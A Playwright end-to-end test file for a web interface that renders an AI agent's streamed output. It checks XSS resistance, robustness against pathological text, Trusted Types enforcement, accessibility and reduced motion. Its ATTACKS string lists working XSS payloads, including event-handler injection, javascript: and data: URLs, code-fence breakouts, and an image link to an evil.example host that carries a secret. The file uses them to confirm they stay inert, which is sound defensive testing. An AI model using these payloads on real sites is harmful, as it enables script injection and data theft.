"""What no agent, model or tool can make the page do, and who can use it."""

import asyncio
from pathlib import Path
from typing import Any

import pytest

pytest.importorskip("playwright", reason="the tests of the page need the package playwright")

from browser import MakeSite, Tab
from playwright.async_api import expect

from agent_ws import AgentError, Status, Turn

pytestmark = [pytest.mark.e2e, pytest.mark.asyncio(loop_scope="session")]

AXE = Path(__file__).parents[2] / "web" / "node_modules" / "axe-core" / "axe.min.js"

ATTACKS = """
<img src=x onerror=alert(1)> <svg onload=alert(2)> <iframe src="javascript:alert(3)"></iframe>

<script>alert(4)</script>

<style>body { display: none }</style>

[a](javascript:alert(5)) [b](JaVaScRiPt:alert(6)) [c](data:text/html,<script>alert(7)</script>) [d](vbscript:x)
[e](/api/agent/stream?message=x) [f](//evil.example/x) [g]( javascript:alert(8)) [h](&#106;avascript:alert(9))
<javascript:alert(10)> [i]: javascript:alert(11)

![a picture](https://evil.example/leak.png?secret=1) ![b](javascript:alert(12)) ![](data:image/svg+xml,<svg/>)

| <img src=x onerror=alert(13)> | b |
| --- | --- |
| [x](javascript:alert(14)) | <b onclick=alert(15)>b</b> |

- [ ] <input onfocus=alert(16) autofocus>

```html
</code></pre><script>alert(17)</script>
```

```"><script>alert(18)</script>
x
```

[good](https://example.org/a?b=1&c=2) <https://example.org/auto> mail@example.org &lt;b&gt; &amp;amp; &#x3C; &nbsp;
"""


async def open_all(tab: Tab) -> None:
    closed = tab.page.locator("details:not([open]) > summary")
    while await closed.count():
        await closed.first.click()


async def test_attacks_in_text_and_in_tools_stay_text(make_site: MakeSite) -> None:
    async def agent(turn: Turn) -> None:
        turn.thinking(ATTACKS)
        for i in range(0, len(ATTACKS), 7):
            turn.content(ATTACKS[i : i + 7])
            await asyncio.sleep(0)
        async with turn.tool(ATTACKS[:60], {ATTACKS: ATTACKS}) as call:
            call.output = ATTACKS
        turn.write(Status("working", ATTACKS))
        await turn.ask("approval", ATTACKS, data=ATTACKS)
        raise AgentError(ATTACKS)

    tab = await (await make_site(agent)).tab()
    await tab.say(ATTACKS)
    await tab.button("Refuse").click()
    await expect(tab.endings.last).to_contain_text("alert(4)")
    await open_all(tab)
    made = tab.page.locator("#app").locator(":is(img, script, iframe, style, object, embed, base, link, form[action])")
    assert await made.count() == 0
    events = "[...document.querySelectorAll('#app *')].flatMap(e => [...e.attributes]).map(a => a.name)"
    assert not any(name.startswith("on") for name in await tab.page.evaluate(events))
    links: list[str] = await tab.page.evaluate("[...document.querySelectorAll('#log a')].map(a => a.href)")
    assert set(links) == {
        "https://evil.example/leak.png?secret=1",  # a picture is a link: nothing is asked for until it is clicked
        "https://example.org/a?b=1&c=2",
        "https://example.org/auto",
        "mailto:mail@example.org",
    }
    assert {await link.get_attribute("rel") for link in await tab.page.locator("#log a").all()} == {
        "noopener noreferrer nofollow"
    }
    await expect(tab.answer.locator(".content").first).to_contain_text("<b> &amp; < ")


@pytest.mark.parametrize(
    "text", [">" * 30_000, "[" * 20_000, "*a " * 20_000, "`" * 30_000, "- " * 5_000, "| a " * 10_000, "x" * 300_000]
)
async def test_no_text_takes_the_page_away(make_site: MakeSite, text: str) -> None:
    async def agent(turn: Turn) -> None:
        turn.content(text)
        await turn.ask("question", "Still there?")

    tab = await (await make_site(agent)).tab()
    await tab.say("Go")
    await expect(tab.page.get_by_label("Still there?")).to_be_visible(timeout=20_000)
    await tab.page.keyboard.press("Escape")
    await expect(tab.endings.last).to_contain_text("Stopped", timeout=20_000)


async def test_html_text_is_refused_by_the_browser_itself(make_site: MakeSite) -> None:
    async def agent(turn: Turn) -> None:
        turn.content("Hi")

    tab = await (await make_site(agent)).tab()
    with pytest.raises(Exception, match="TrustedHTML"):
        await tab.page.evaluate("document.body.innerHTML = '<b>x</b>'")
    tab.faults.clear()  # the browser says so


async def violations(tab: Tab) -> list[str]:
    """What axe finds. It is put in by the test, past the policy of the page."""
    await tab.page.evaluate(AXE.read_text())
    found: dict[str, Any] = await tab.page.evaluate("axe.run({resultTypes: ['violations']})")
    return [f"{v['id']}: {node['html'][:120]}" for v in found["violations"] for node in v["nodes"]]


@pytest.mark.skipif(not AXE.exists(), reason="needs axe-core: make test installs it where there is npm")
@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [390, 1280])
async def test_axe_finds_nothing(make_site: MakeSite, scheme: Any, width: int) -> None:
    gate = asyncio.Event()

    async def child(turn: Turn) -> None:
        turn.content("One of two")
        await gate.wait()

    async def agent(turn: Turn) -> None:
        if turn.message == "first":
            turn.thinking("Well.")
            turn.content(f"# Title\n\n{ATTACKS}\n\n```python\ndef f(x: int) -> str:\n    return 'a' # b\n```")
            turn.content("\n\n> quoted\n\n")
            turn.outline(s1="Idea", s2="End")
            async with turn.section("s1") as section:
                section.content("An idea.")
            async with turn.tool("search", {"query": "tides"}) as call:
                call.output = "3 hits"
            turn.status("retrying", "the model is overloaded", attempt=2)
            await turn.ask("approval", "Delete?", data={"file": "a"})
            await turn.together(optimist=child, pessimist=child)
        await gate.wait()
        raise AgentError("It broke.")

    tab = await (await make_site(agent)).tab()
    await tab.page.emulate_media(color_scheme=scheme, reduced_motion="reduce")
    await tab.page.set_viewport_size({"width": width, "height": 800})
    assert await violations(tab) == []
    await tab.say("first")
    await expect(tab.button("Approve")).to_be_visible()
    await tab.say("second")
    await expect(tab.page.locator("#waiting .message")).to_have_count(1)
    await open_all(tab)
    assert await violations(tab) == [], "while it asks"
    await tab.button("Approve").click()
    await expect(tab.page.locator(".agent")).to_have_count(2)
    assert await violations(tab) == [], "with agents side by side"
    await tab.page.keyboard.press("Escape")
    await expect(tab.endings.first).to_contain_text("Stopped")
    gate.set()
    await expect(tab.endings.last).to_contain_text("It broke.")
    await open_all(tab)
    await tab.button("This conversation").click()
    assert await violations(tab) == [], "at the end, with the menu"
    await tab.button("Delete…").click()
    assert await violations(tab) == [], "with the dialog"
    await tab.button("Keep it").click()
    if width < 1000:
        await tab.button("Conversations").click()
        assert await violations(tab) == [], "with the list"
    tab.faults.clear()  # axe tries styles that the policy forbids


async def test_nothing_moves_for_who_wants_it_so(make_site: MakeSite) -> None:
    async def agent(turn: Turn) -> None:
        turn.content("Hi")
        await asyncio.sleep(60)

    tab = await (await make_site(agent)).tab()
    await tab.page.emulate_media(reduced_motion="reduce")
    await tab.say("Go")
    await expect(tab.answer).to_have_text("Hi")
    await tab.page.evaluate("Promise.all(document.getAnimations().map(a => a.finished))")
    assert await tab.page.evaluate("document.getAnimations().length") == 0
    await tab.page.emulate_media(reduced_motion="no-preference")
